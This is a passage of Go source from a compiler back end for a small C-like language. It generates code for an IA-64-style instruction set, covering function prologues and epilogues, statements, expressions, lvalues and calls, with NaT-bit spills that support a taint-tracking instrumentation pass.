	// --- Prologue --------------------------------------------------------
	f.g.label(f.fn.Name)
	f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: isa.RegSP, Src1: isa.RegSP, Imm: -f.frameSize})
	// Save the return address.
	f.emitABI(isa.Instruction{Op: isa.OpMovFromBr, Dest: tempBase, B: 0})
	f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: tempBase + 1, Src1: isa.RegSP, Imm: frameB0})
	f.emitABI(isa.Instruction{Op: isa.OpSt, Src1: tempBase + 1, Src2: tempBase, Size: 8, ABI: true})
	// Callee-save spills (NaT bits to UNAT bits 32+i).
	for i, r := range f.savedRegs {
		f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: tempBase, Src1: isa.RegSP, Imm: frameSaved + int64(i)*8})
		f.emitABI(isa.Instruction{Op: isa.OpStSpill, Src1: tempBase, Src2: r, Size: 8, Imm: int64(32 + i), ABI: true})
	}
	// Preserve UNAT as of here for the epilogue fills.
	f.emitABI(isa.Instruction{Op: isa.OpMovFromUnat, Dest: tempBase})
	f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: tempBase + 1, Src1: isa.RegSP, Imm: frameUNAT})
	f.emitABI(isa.Instruction{Op: isa.OpSt, Src1: tempBase + 1, Src2: tempBase, Size: 8, ABI: true})
	// Move parameters to their homes.
	for i, p := range f.fn.Params {
		arg := uint8(isa.RegArg0 + i)
		if r, ok := f.regHome[p]; ok {
			f.emit(isa.Instruction{Op: isa.OpMov, Dest: r, Src1: arg})
		} else {
			// Memory-home parameters flow through a real store so the
			// instrumentation pass propagates their taint to the bitmap.
			f.emit(isa.Instruction{Op: isa.OpAddi, Dest: tempBase, Src1: isa.RegSP, Imm: f.memHome[p]})
			f.emit(isa.Instruction{Op: isa.OpSt, Src1: tempBase, Src2: arg, Size: 8})
		}
	}

	// --- Body ------------------------------------------------------------
	if err := f.stmt(f.fn.Body); err != nil {
		return err
	}

	// --- Epilogue ---------------------------------------------------------
	f.g.label(f.retLabel)
	f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: tempBase + 1, Src1: isa.RegSP, Imm: frameUNAT})
	f.emitABI(isa.Instruction{Op: isa.OpLd, Dest: tempBase, Src1: tempBase + 1, Size: 8, ABI: true})
	f.emitABI(isa.Instruction{Op: isa.OpMovToUnat, Src1: tempBase})
	for i, r := range f.savedRegs {
		f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: tempBase, Src1: isa.RegSP, Imm: frameSaved + int64(i)*8})
		f.emitABI(isa.Instruction{Op: isa.OpLdFill, Dest: r, Src1: tempBase, Size: 8, Imm: int64(32 + i), ABI: true})
	}
	f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: tempBase + 1, Src1: isa.RegSP, Imm: frameB0})
	f.emitABI(isa.Instruction{Op: isa.OpLd, Dest: tempBase, Src1: tempBase + 1, Size: 8, ABI: true})
	f.emitABI(isa.Instruction{Op: isa.OpMovToBr, B: 0, Src1: tempBase})
	f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: isa.RegSP, Src1: isa.RegSP, Imm: f.frameSize})
	f.emitABI(isa.Instruction{Op: isa.OpBrRet, B: 0})
	return nil
}

func (f *fnGen) emit(ins isa.Instruction) { f.g.emit(ins) }

// emitABI emits calling-convention bookkeeping.
func (f *fnGen) emitABI(ins isa.Instruction) {
	ins.ABI = true
	f.g.emit(ins)
}

// push allocates the next expression temporary.
func (f *fnGen) push(pos lang.Pos) (uint8, error) {
	if f.depth >= tempCount {
		return 0, &Error{pos, fmt.Sprintf("expression too deep (more than %d temporaries)", tempCount)}
	}
	r := uint8(tempBase + f.depth)
	f.depth++
	if f.depth > f.maxDepth {
		f.maxDepth = f.depth
	}
	return r, nil
}

// pop releases the top n temporaries.
func (f *fnGen) pop(n int) { f.depth -= n }

// top returns the register of the k-th temporary from the top (0 = top).
func (f *fnGen) top(k int) uint8 { return uint8(tempBase + f.depth - 1 - k) }

// scratch returns a register usable without pushing: the next free temp.
// Valid only until the next push.
func (f *fnGen) scratch(pos lang.Pos) (uint8, error) {
	if f.depth >= tempCount {
		return 0, &Error{pos, "expression too deep (no scratch register)"}
	}
	return uint8(tempBase + f.depth), nil
}

// ---------------------------------------------------------------------------
// Statements

func (f *fnGen) stmt(s lang.Stmt) error {
	switch s := s.(type) {
	case *lang.Block:
		for _, st := range s.Stmts {
			if err := f.stmt(st); err != nil {
				return err
			}
		}
		return nil

	case *lang.DeclStmt:
		d := s.Decl
		if !d.HasInit {
			return nil
		}
		switch {
		case d.Init != nil:
			if err := f.expr(d.Init); err != nil {
				return err
			}
			if err := f.storeToDecl(d, f.top(0), d.Pos); err != nil {
				return err
			}
			f.pop(1)
			return nil
		case d.InitStr != "" || (d.IsArray() && d.InitList == nil):
			return f.initCharArray(d)
		default:
			return f.initList(d)
		}

	case *lang.ExprStmt:
		n, err := f.exprMaybeVoid(s.X)
		if err != nil {
			return err
		}
		f.pop(n)
		return nil

	case *lang.IfStmt:
		elseL := f.g.newLabel("else")
		endL := f.g.newLabel("endif")
		target := endL
		if s.Else != nil {
			target = elseL
		}
		if err := f.branchIfFalse(s.Cond, target); err != nil {
			return err
		}
		if err := f.stmt(s.Then); err != nil {
			return err
		}
		if s.Else != nil {
			f.emit(isa.Instruction{Op: isa.OpBr, Label: endL})
			f.g.label(elseL)
			if err := f.stmt(s.Else); err != nil {
				return err
			}
		}
		f.g.label(endL)
		return nil

	case *lang.WhileStmt:
		headL := f.g.newLabel("while")
		endL := f.g.newLabel("endwhile")
		f.g.label(headL)
		if err := f.branchIfFalse(s.Cond, endL); err != nil {
			return err
		}
		f.breakLbls = append(f.breakLbls, endL)
		f.contLbls = append(f.contLbls, headL)
		err := f.stmt(s.Body)
		f.breakLbls = f.breakLbls[:len(f.breakLbls)-1]
		f.contLbls = f.contLbls[:len(f.contLbls)-1]
		if err != nil {
			return err
		}
		f.emit(isa.Instruction{Op: isa.OpBr, Label: headL})
		f.g.label(endL)
		return nil

	case *lang.ForStmt:
		headL := f.g.newLabel("for")
		postL := f.g.newLabel("forpost")
		endL := f.g.newLabel("endfor")
		if s.Init != nil {
			if err := f.stmt(s.Init); err != nil {
				return err
			}
		}
		f.g.label(headL)
		if s.Cond != nil {
			if err := f.branchIfFalse(s.Cond, endL); err != nil {
				return err
			}
		}
		f.breakLbls = append(f.breakLbls, endL)
		f.contLbls = append(f.contLbls, postL)
		err := f.stmt(s.Body)
		f.breakLbls = f.breakLbls[:len(f.breakLbls)-1]
		f.contLbls = f.contLbls[:len(f.contLbls)-1]
		if err != nil {
			return err
		}
		f.g.label(postL)
		if s.Post != nil {
			n, err := f.exprMaybeVoid(s.Post)
			if err != nil {
				return err
			}
			f.pop(n)
		}
		f.emit(isa.Instruction{Op: isa.OpBr, Label: headL})
		f.g.label(endL)
		return nil

	case *lang.ReturnStmt:
		if s.Value != nil {
			if err := f.expr(s.Value); err != nil {
				return err
			}
			f.emit(isa.Instruction{Op: isa.OpMov, Dest: isa.RegRet, Src1: f.top(0)})
			f.pop(1)
		}
		f.emit(isa.Instruction{Op: isa.OpBr, Label: f.retLabel})
		return nil

	case *lang.BreakStmt:
		f.emit(isa.Instruction{Op: isa.OpBr, Label: f.breakLbls[len(f.breakLbls)-1]})
		return nil

	case *lang.ContinueStmt:
		f.emit(isa.Instruction{Op: isa.OpBr, Label: f.contLbls[len(f.contLbls)-1]})
		return nil
	}
	return fmt.Errorf("codegen: unknown statement %T", s)
}

// initCharArray initialises a local char array from a string literal
// (or zero-fills it when declared with an empty string).
func (f *fnGen) initCharArray(d *lang.VarDecl) error {
	// memcpy from an interned literal, done inline byte by byte for
	// short strings; the bytes flow through instrumentable loads/stores.
	sym := f.g.internString(d.InitStr)
	dst, err := f.push(d.Pos)
	if err != nil {
		return err
	}
	src, err := f.push(d.Pos)
	if err != nil {
		return err
	}
	tmp, err := f.push(d.Pos)
	if err != nil {
		return err
	}
	f.emit(isa.Instruction{Op: isa.OpAddi, Dest: dst, Src1: isa.RegSP, Imm: f.memHome[d]})
	f.emit(isa.Instruction{Op: isa.OpMovl, Dest: src, Imm: int64(f.g.prog.DataSymbols[sym])})
	for i := 0; i <= len(d.InitStr); i++ {
		f.emit(isa.Instruction{Op: isa.OpLd, Dest: tmp, Src1: src, Size: 1})
		f.emit(isa.Instruction{Op: isa.OpSt, Src1: dst, Src2: tmp, Size: 1})
		if i < len(d.InitStr) {
			f.emit(isa.Instruction{Op: isa.OpAddi, Dest: src, Src1: src, Imm: 1})
			f.emit(isa.Instruction{Op: isa.OpAddi, Dest: dst, Src1: dst, Imm: 1})
		}
	}
	f.pop(3)
	return nil
}

// initList initialises a local array from a brace list.
func (f *fnGen) initList(d *lang.VarDecl) error {
	addr, err := f.push(d.Pos)
	if err != nil {
		return err
	}
	val, err := f.push(d.Pos)
	if err != nil {
		return err
	}
	es := d.Type.Size()
	f.emit(isa.Instruction{Op: isa.OpAddi, Dest: addr, Src1: isa.RegSP, Imm: f.memHome[d]})
	for i, v := range d.InitList {
		f.emit(isa.Instruction{Op: isa.OpMovl, Dest: val, Imm: v})
		f.emit(isa.Instruction{Op: isa.OpSt, Src1: addr, Src2: val, Size: uint8(es)})
		if i < len(d.InitList)-1 {
			f.emit(isa.Instruction{Op: isa.OpAddi, Dest: addr, Src1: addr, Imm: es})
		}
	}
	f.pop(2)
	return nil
}

// branchIfFalse evaluates cond and branches to label when it is zero.
func (f *fnGen) branchIfFalse(cond lang.Expr, label string) error {
	if err := f.expr(cond); err != nil {
		return err
	}
	t := f.top(0)
	f.emit(isa.Instruction{Op: isa.OpCmpi, Cond: isa.CondNE, P1: 6, P2: 7, Src1: t, Imm: 0})
	f.emit(isa.Instruction{Op: isa.OpBr, Qp: 7, Label: label})
	f.pop(1)
	return nil
}
