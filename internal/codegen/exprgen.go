package codegen

import (
	"fmt"

	"shift/internal/isa"
	"shift/internal/lang"
)

// Predicate registers used by generated code. The instrumentation pass
// has its own reserved predicates (p8..p10), so sequences it inserts
// between a compare and its predicated consumer cannot clobber these.
const (
	predT = 6 // condition true
	predF = 7 // condition false
)

// exprMaybeVoid generates e, returning how many temporaries it pushed
// (0 for a void call, 1 otherwise).
func (f *fnGen) exprMaybeVoid(e lang.Expr) (int, error) {
	if c, ok := e.(*lang.Call); ok && c.ResultType() == lang.TypeVoid {
		return 0, f.call(c, false)
	}
	return 1, f.expr(e)
}

// expr generates e, leaving its value in a freshly pushed temporary.
func (f *fnGen) expr(e lang.Expr) error {
	switch e := e.(type) {
	case *lang.IntLit:
		t, err := f.push(e.Pos)
		if err != nil {
			return err
		}
		f.emit(isa.Instruction{Op: isa.OpMovl, Dest: t, Imm: e.Val})
		return nil

	case *lang.StrLit:
		sym := f.g.internString(e.Val)
		t, err := f.push(e.Pos)
		if err != nil {
			return err
		}
		f.emit(isa.Instruction{Op: isa.OpMovl, Dest: t, Imm: int64(f.g.prog.DataSymbols[sym])})
		return nil

	case *lang.Ident:
		return f.identValue(e)

	case *lang.Unary:
		return f.unary(e)

	case *lang.Binary:
		return f.binary(e)

	case *lang.Assign:
		return f.assign(e)

	case *lang.IncDec:
		return f.incDec(e)

	case *lang.Call:
		if e.ResultType() == lang.TypeVoid {
			return &Error{e.Pos, fmt.Sprintf("void value of %s() used", e.Name)}
		}
		return f.call(e, true)

	case *lang.Index:
		if err := f.elemAddr(e); err != nil {
			return err
		}
		f.loadTop(e.ResultType())
		return nil

	case *lang.Cond:
		return f.ternary(e)
	}
	return fmt.Errorf("codegen: unknown expression %T", e)
}

// identValue pushes the value (or decayed address) of an identifier.
func (f *fnGen) identValue(e *lang.Ident) error {
	t, err := f.push(e.Pos)
	if err != nil {
		return err
	}
	switch {
	case e.ParamRef != nil:
		if r, ok := f.regHome[e.ParamRef]; ok {
			f.emit(isa.Instruction{Op: isa.OpMov, Dest: t, Src1: r})
			return nil
		}
		f.emit(isa.Instruction{Op: isa.OpAddi, Dest: t, Src1: isa.RegSP, Imm: f.memHome[e.ParamRef]})
		f.emit(isa.Instruction{Op: isa.OpLd, Dest: t, Src1: t, Size: 8})
		return nil

	case e.VarRef.Global:
		f.emit(isa.Instruction{Op: isa.OpMovl, Dest: t, Imm: int64(f.g.prog.DataSymbols[e.VarRef.Name])})
		if !e.VarRef.IsArray() {
			f.emit(isa.Instruction{Op: isa.OpLd, Dest: t, Src1: t, Size: uint8(e.VarRef.Type.Size())})
		}
		return nil

	default: // local variable
		if r, ok := f.regHome[e.VarRef]; ok {
			f.emit(isa.Instruction{Op: isa.OpMov, Dest: t, Src1: r})
			return nil
		}
		f.emit(isa.Instruction{Op: isa.OpAddi, Dest: t, Src1: isa.RegSP, Imm: f.memHome[e.VarRef]})
		if !e.VarRef.IsArray() {
			f.emit(isa.Instruction{Op: isa.OpLd, Dest: t, Src1: t, Size: uint8(e.VarRef.Type.Size())})
		}
		return nil
	}
}

// loadTop replaces the address on top of the temp stack with the value it
// points at, sized by typ.
func (f *fnGen) loadTop(typ lang.Type) {
	t := f.top(0)
	f.emit(isa.Instruction{Op: isa.OpLd, Dest: t, Src1: t, Size: uint8(typ.Size())})
}

func (f *fnGen) unary(e *lang.Unary) error {
	switch e.Op {
	case "&":
		return f.addrOf(e.X)
	case "*":
		if err := f.expr(e.X); err != nil {
			return err
		}
		f.loadTop(e.ResultType())
		return nil
	}
	if err := f.expr(e.X); err != nil {
		return err
	}
	t := f.top(0)
	switch e.Op {
	case "-":
		f.emit(isa.Instruction{Op: isa.OpSub, Dest: t, Src1: isa.RegZero, Src2: t})
	case "~":
		f.emit(isa.Instruction{Op: isa.OpXori, Dest: t, Src1: t, Imm: -1})
	case "!":
		f.emit(isa.Instruction{Op: isa.OpCmpi, Cond: isa.CondEQ, P1: predT, P2: predF, Src1: t, Imm: 0})
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: t, Src1: isa.RegZero})
		f.emit(isa.Instruction{Op: isa.OpAddi, Qp: predT, Dest: t, Src1: isa.RegZero, Imm: 1})
	default:
		return &Error{e.Pos, "unknown unary operator " + e.Op}
	}
	return nil
}

// log2 of an element size (1 or 8 in minic).
func scaleShift(t lang.Type) int64 {
	if t.Size() == 8 {
		return 3
	}
	return 0
}

func (f *fnGen) binary(e *lang.Binary) error {
	switch e.Op {
	case "&&", "||":
		return f.logical(e)
	}

	if err := f.expr(e.X); err != nil {
		return err
	}
	if err := f.expr(e.Y); err != nil {
		return err
	}
	tx, ty := f.top(1), f.top(0)
	xt, yt := e.X.ResultType(), e.Y.ResultType()

	switch e.Op {
	case "+":
		if xt.IsPointer() && scaleShift(xt.Elem()) != 0 {
			f.emit(isa.Instruction{Op: isa.OpShli, Dest: ty, Src1: ty, Imm: scaleShift(xt.Elem())})
		}
		if yt.IsPointer() && scaleShift(yt.Elem()) != 0 {
			f.emit(isa.Instruction{Op: isa.OpShli, Dest: tx, Src1: tx, Imm: scaleShift(yt.Elem())})
		}
		f.emit(isa.Instruction{Op: isa.OpAdd, Dest: tx, Src1: tx, Src2: ty})
	case "-":
		switch {
		case xt.IsPointer() && yt.IsPointer():
			f.emit(isa.Instruction{Op: isa.OpSub, Dest: tx, Src1: tx, Src2: ty})
			if s := scaleShift(xt.Elem()); s != 0 {
				f.emit(isa.Instruction{Op: isa.OpSari, Dest: tx, Src1: tx, Imm: s})
			}
		case xt.IsPointer():
			if s := scaleShift(xt.Elem()); s != 0 {
				f.emit(isa.Instruction{Op: isa.OpShli, Dest: ty, Src1: ty, Imm: s})
			}
			f.emit(isa.Instruction{Op: isa.OpSub, Dest: tx, Src1: tx, Src2: ty})
		default:
			f.emit(isa.Instruction{Op: isa.OpSub, Dest: tx, Src1: tx, Src2: ty})
		}
	case "*":
		f.emit(isa.Instruction{Op: isa.OpMul, Dest: tx, Src1: tx, Src2: ty})
	case "/":
		f.emit(isa.Instruction{Op: isa.OpDiv, Dest: tx, Src1: tx, Src2: ty})
	case "%":
		f.emit(isa.Instruction{Op: isa.OpRem, Dest: tx, Src1: tx, Src2: ty})
	case "&":
		f.emit(isa.Instruction{Op: isa.OpAnd, Dest: tx, Src1: tx, Src2: ty})
	case "|":
		f.emit(isa.Instruction{Op: isa.OpOr, Dest: tx, Src1: tx, Src2: ty})
	case "^":
		f.emit(isa.Instruction{Op: isa.OpXor, Dest: tx, Src1: tx, Src2: ty})
	case "<<":
		f.emit(isa.Instruction{Op: isa.OpShl, Dest: tx, Src1: tx, Src2: ty})
	case ">>":
		f.emit(isa.Instruction{Op: isa.OpSar, Dest: tx, Src1: tx, Src2: ty})
	case "==", "!=", "<", "<=", ">", ">=":
		cond := relOf(e.Op, xt.IsPointer() || yt.IsPointer())
		f.emit(isa.Instruction{Op: isa.OpCmp, Cond: cond, P1: predT, P2: predF, Src1: tx, Src2: ty})
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: tx, Src1: isa.RegZero})
		f.emit(isa.Instruction{Op: isa.OpAddi, Qp: predT, Dest: tx, Src1: isa.RegZero, Imm: 1})
	default:
		return &Error{e.Pos, "unknown binary operator " + e.Op}
	}
	f.pop(1)
	return nil
}

// relOf maps a C relation to the compare condition; pointer comparisons
// are unsigned because addresses carry region bits in the high bits.
func relOf(op string, unsigned bool) isa.Cond {
	switch op {
	case "==":
		return isa.CondEQ
	case "!=":
		return isa.CondNE
	case "<":
		if unsigned {
			return isa.CondLTU
		}
		return isa.CondLT
	case "<=":
		if unsigned {
			return isa.CondLEU
		}
		return isa.CondLE
	case ">":
		if unsigned {
			return isa.CondGTU
		}
		return isa.CondGT
	case ">=":
		if unsigned {
			return isa.CondGEU
		}
		return isa.CondGE
	}
	return isa.CondEQ
}

// normalizeTop turns the top temporary into 0/1 and leaves predT/predF
// reflecting non-zero/zero.
func (f *fnGen) normalizeTop() {
	t := f.top(0)
	f.emit(isa.Instruction{Op: isa.OpCmpi, Cond: isa.CondNE, P1: predT, P2: predF, Src1: t, Imm: 0})
	f.emit(isa.Instruction{Op: isa.OpMov, Dest: t, Src1: isa.RegZero})
	f.emit(isa.Instruction{Op: isa.OpAddi, Qp: predT, Dest: t, Src1: isa.RegZero, Imm: 1})
}

func (f *fnGen) logical(e *lang.Binary) error {
	end := f.g.newLabel("sc")
	if err := f.expr(e.X); err != nil {
		return err
	}
	f.normalizeTop()
	t := f.top(0)
	if e.Op == "&&" {
		f.emit(isa.Instruction{Op: isa.OpBr, Qp: predF, Label: end})
	} else {
		f.emit(isa.Instruction{Op: isa.OpBr, Qp: predT, Label: end})
	}
	if err := f.expr(e.Y); err != nil {
		return err
	}
	f.normalizeTop()
	f.emit(isa.Instruction{Op: isa.OpMov, Dest: t, Src1: f.top(0)})
	f.pop(1)
	f.g.label(end)
	return nil
}

func (f *fnGen) ternary(e *lang.Cond) error {
	elseL := f.g.newLabel("terne")
	endL := f.g.newLabel("ternx")
	if err := f.branchIfFalse(e.C, elseL); err != nil {
		return err
	}
	if err := f.expr(e.A); err != nil {
		return err
	}
	f.emit(isa.Instruction{Op: isa.OpBr, Label: endL})
	f.pop(1)
	f.g.label(elseL)
	if err := f.expr(e.B); err != nil {
		return err
	}
	f.g.label(endL)
	return nil
}

// ---------------------------------------------------------------------------
// Lvalues

// lval describes a prepared assignment target: either a register home or
// an address pushed on the temp stack.
type lval struct {
	reg   uint8 // register home (when inReg)
	inReg bool
	typ   lang.Type
}

// prepLV prepares e as an assignment target. For memory targets it pushes
// one temporary holding the address.
func (f *fnGen) prepLV(e lang.Expr) (lval, error) {
	switch e := e.(type) {
	case *lang.Ident:
		if e.ParamRef != nil {
			if r, ok := f.regHome[e.ParamRef]; ok {
				return lval{reg: r, inReg: true, typ: e.ResultType()}, nil
			}
			t, err := f.push(e.Pos)
			if err != nil {
				return lval{}, err
			}
			f.emit(isa.Instruction{Op: isa.OpAddi, Dest: t, Src1: isa.RegSP, Imm: f.memHome[e.ParamRef]})
			return lval{typ: e.ResultType()}, nil
		}
		if r, ok := f.regHome[e.VarRef]; ok {
			return lval{reg: r, inReg: true, typ: e.ResultType()}, nil
		}
		if err := f.addrOf(e); err != nil {
			return lval{}, err
		}
		return lval{typ: e.ResultType()}, nil

	case *lang.Unary: // *p
		if err := f.expr(e.X); err != nil {
			return lval{}, err
		}
		return lval{typ: e.ResultType()}, nil

	case *lang.Index:
		if err := f.elemAddr(e); err != nil {
			return lval{}, err
		}
		return lval{typ: e.ResultType()}, nil
	}
	return lval{}, &Error{e.Position(), "expression is not assignable"}
}

// loadLV pushes the current value of a prepared lvalue. For memory
// lvalues the address temp must be on top of the stack; it is preserved.
func (f *fnGen) loadLV(lv lval, pos lang.Pos) error {
	t, err := f.push(pos)
	if err != nil {
		return err
	}
	if lv.inReg {
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: t, Src1: lv.reg})
		return nil
	}
	addr := f.top(1)
	f.emit(isa.Instruction{Op: isa.OpLd, Dest: t, Src1: addr, Size: uint8(lv.typ.Size())})
	return nil
}

// storeLV stores src into the prepared lvalue. For memory lvalues the
// address temp must be directly below whatever holds src.
func (f *fnGen) storeLV(lv lval, addrReg, src uint8) {
	if lv.inReg {
		if lv.typ == lang.TypeChar {
			f.emit(isa.Instruction{Op: isa.OpAndi, Dest: src, Src1: src, Imm: 0xff})
		}
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: lv.reg, Src1: src})
		return
	}
	f.emit(isa.Instruction{Op: isa.OpSt, Src1: addrReg, Src2: src, Size: uint8(lv.typ.Size())})
}

// storeToDecl stores src into a declared variable (used by initializers).
func (f *fnGen) storeToDecl(d *lang.VarDecl, src uint8, pos lang.Pos) error {
	if d.Type == lang.TypeChar {
		f.emit(isa.Instruction{Op: isa.OpAndi, Dest: src, Src1: src, Imm: 0xff})
	}
	if r, ok := f.regHome[d]; ok {
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: r, Src1: src})
		return nil
	}
	t, err := f.scratch(pos)
	if err != nil {
		return err
	}
	if d.Global {
		f.emit(isa.Instruction{Op: isa.OpMovl, Dest: t, Imm: int64(f.g.prog.DataSymbols[d.Name])})
	} else {
		f.emit(isa.Instruction{Op: isa.OpAddi, Dest: t, Src1: isa.RegSP, Imm: f.memHome[d]})
	}
	f.emit(isa.Instruction{Op: isa.OpSt, Src1: t, Src2: src, Size: uint8(d.Type.Size())})
	return nil
}

// addrOf pushes the address of an lvalue (or array).
func (f *fnGen) addrOf(e lang.Expr) error {
	switch e := e.(type) {
	case *lang.Ident:
		t, err := f.push(e.Position())
		if err != nil {
			return err
		}
		switch {
		case e.VarRef != nil && e.VarRef.Global:
			f.emit(isa.Instruction{Op: isa.OpMovl, Dest: t, Imm: int64(f.g.prog.DataSymbols[e.VarRef.Name])})
		case e.VarRef != nil:
			f.emit(isa.Instruction{Op: isa.OpAddi, Dest: t, Src1: isa.RegSP, Imm: f.memHome[e.VarRef]})
		default:
			return &Error{e.Pos, "cannot take the address of a parameter"}
		}
		return nil
	case *lang.Unary:
		if e.Op == "*" {
			return f.expr(e.X)
		}
	case *lang.Index:
		return f.elemAddr(e)
	}
	return &Error{e.Position(), "expression has no address"}
}

// elemAddr pushes the address of base[idx].
func (f *fnGen) elemAddr(e *lang.Index) error {
	if err := f.expr(e.Base); err != nil {
		return err
	}
	if err := f.expr(e.Idx); err != nil {
		return err
	}
	tb, ti := f.top(1), f.top(0)
	if s := scaleShift(e.ResultType()); s != 0 {
		f.emit(isa.Instruction{Op: isa.OpShli, Dest: ti, Src1: ti, Imm: s})
	}
	f.emit(isa.Instruction{Op: isa.OpAdd, Dest: tb, Src1: tb, Src2: ti})
	f.pop(1)
	return nil
}

// ---------------------------------------------------------------------------
// Assignment, increment, calls

func (f *fnGen) assign(e *lang.Assign) error {
	lv, err := f.prepLV(e.LHS)
	if err != nil {
		return err
	}
	// Stack: [addr]? — evaluate the RHS above it.
	if e.Op != "=" {
		if err := f.loadLV(lv, e.Pos); err != nil {
			return err
		}
		if err := f.expr(e.RHS); err != nil {
			return err
		}
		old, rhs := f.top(1), f.top(0)
		if err := f.applyCompound(e, lv.typ, old, rhs); err != nil {
			return err
		}
		f.pop(1) // rhs folded into old
	} else {
		if err := f.expr(e.RHS); err != nil {
			return err
		}
	}
	val := f.top(0)
	if lv.inReg {
		f.storeLV(lv, 0, val)
		// The expression's value is the (possibly truncated) stored one.
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: val, Src1: lv.reg})
		return nil
	}
	if lv.typ == lang.TypeChar {
		f.emit(isa.Instruction{Op: isa.OpAndi, Dest: val, Src1: val, Imm: 0xff})
	}
	addr := f.top(1)
	f.storeLV(lv, addr, val)
	// Collapse [addr, val] into [val].
	f.emit(isa.Instruction{Op: isa.OpMov, Dest: addr, Src1: val})
	f.pop(1)
	return nil
}

// applyCompound folds "old op= rhs" into the old temp.
func (f *fnGen) applyCompound(e *lang.Assign, typ lang.Type, old, rhs uint8) error {
	scaled := typ.IsPointer()
	switch e.Op {
	case "+=":
		if scaled && scaleShift(typ.Elem()) != 0 {
			f.emit(isa.Instruction{Op: isa.OpShli, Dest: rhs, Src1: rhs, Imm: scaleShift(typ.Elem())})
		}
		f.emit(isa.Instruction{Op: isa.OpAdd, Dest: old, Src1: old, Src2: rhs})
	case "-=":
		if scaled && scaleShift(typ.Elem()) != 0 {
			f.emit(isa.Instruction{Op: isa.OpShli, Dest: rhs, Src1: rhs, Imm: scaleShift(typ.Elem())})
		}
		f.emit(isa.Instruction{Op: isa.OpSub, Dest: old, Src1: old, Src2: rhs})
	case "*=":
		f.emit(isa.Instruction{Op: isa.OpMul, Dest: old, Src1: old, Src2: rhs})
	case "/=":
		f.emit(isa.Instruction{Op: isa.OpDiv, Dest: old, Src1: old, Src2: rhs})
	case "%=":
		f.emit(isa.Instruction{Op: isa.OpRem, Dest: old, Src1: old, Src2: rhs})
	case "&=":
		f.emit(isa.Instruction{Op: isa.OpAnd, Dest: old, Src1: old, Src2: rhs})
	case "|=":
		f.emit(isa.Instruction{Op: isa.OpOr, Dest: old, Src1: old, Src2: rhs})
	case "^=":
		f.emit(isa.Instruction{Op: isa.OpXor, Dest: old, Src1: old, Src2: rhs})
	case "<<=":
		f.emit(isa.Instruction{Op: isa.OpShl, Dest: old, Src1: old, Src2: rhs})
	case ">>=":
		f.emit(isa.Instruction{Op: isa.OpSar, Dest: old, Src1: old, Src2: rhs})
	default:
		return &Error{e.Pos, "unknown compound assignment " + e.Op}
	}
	return nil
}

func (f *fnGen) incDec(e *lang.IncDec) error {
	lv, err := f.prepLV(e.X)
	if err != nil {
		return err
	}
	if err := f.loadLV(lv, e.Pos); err != nil {
		return err
	}
	val := f.top(0)
	delta := int64(1)
	if lv.typ.IsPointer() {
		delta = lv.typ.Elem().Size()
	}
	if e.Op == "--" {
		delta = -delta
	}

	if e.Post {
		// Keep the old value as the result; store old+delta.
		upd, err := f.push(e.Pos)
		if err != nil {
			return err
		}
		f.emit(isa.Instruction{Op: isa.OpAddi, Dest: upd, Src1: val, Imm: delta})
		if lv.typ == lang.TypeChar {
			f.emit(isa.Instruction{Op: isa.OpAndi, Dest: upd, Src1: upd, Imm: 0xff})
		}
		if lv.inReg {
			f.storeLV(lv, 0, upd)
			f.pop(1)
			return nil
		}
		addr := f.top(2)
		f.storeLV(lv, addr, upd)
		f.pop(1)
		// Collapse [addr, old] to [old].
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: addr, Src1: val})
		f.pop(1)
		return nil
	}

	f.emit(isa.Instruction{Op: isa.OpAddi, Dest: val, Src1: val, Imm: delta})
	if lv.typ == lang.TypeChar {
		f.emit(isa.Instruction{Op: isa.OpAndi, Dest: val, Src1: val, Imm: 0xff})
	}
	if lv.inReg {
		f.storeLV(lv, 0, val)
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: val, Src1: lv.reg})
		return nil
	}
	addr := f.top(1)
	f.storeLV(lv, addr, val)
	f.emit(isa.Instruction{Op: isa.OpMov, Dest: addr, Src1: val})
	f.pop(1)
	return nil
}

// call generates a user call or syscall intrinsic; pushes the result when
// wantValue is true.
func (f *fnGen) call(e *lang.Call, wantValue bool) error {
	argBase := f.depth
	for _, a := range e.Args {
		if err := f.expr(a); err != nil {
			return err
		}
	}
	n := len(e.Args)
	for i := 0; i < n; i++ {
		f.emit(isa.Instruction{Op: isa.OpMov, Dest: uint8(isa.RegArg0 + i), Src1: uint8(tempBase + argBase + i)})
	}
	f.pop(n)

	if e.Intrinsic != 0 {
		f.emit(isa.Instruction{Op: isa.OpSyscall, Imm: e.Intrinsic})
	} else {
		live := f.depth
		sc1, err := f.scratch(e.Pos)
		if err != nil {
			return err
		}
		// Preserve live temporaries (with their NaT bits) and UNAT.
		for j := 0; j < live; j++ {
			f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: sc1, Src1: isa.RegSP, Imm: f.tempSpill + int64(j)*8})
			f.emitABI(isa.Instruction{Op: isa.OpStSpill, Src1: sc1, Src2: uint8(tempBase + j), Size: 8, Imm: int64(j), ABI: true})
		}
		if live > 0 {
			f.emitABI(isa.Instruction{Op: isa.OpMovFromUnat, Dest: sc1})
			f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: sc1 + 1, Src1: isa.RegSP, Imm: frameCallUNAT})
			f.emitABI(isa.Instruction{Op: isa.OpSt, Src1: sc1 + 1, Src2: sc1, Size: 8, ABI: true})
		}
		f.emit(isa.Instruction{Op: isa.OpBrCall, B: 0, Label: e.Func.Name})
		if live > 0 {
			f.emitABI(isa.Instruction{Op: isa.OpAddi, Dest: sc1 + 1, Src1: isa.RegSP, Imm: frameCallUNAT})
			f.emitABI(isa.Instruction{Op: isa.OpLd, Dest: sc1, Src1: sc1 + 1, Size: 8, ABI: true})
			f.emitABI(isa.Instruction{Op: isa.OpMovToUnat, Src1: sc1})
		}
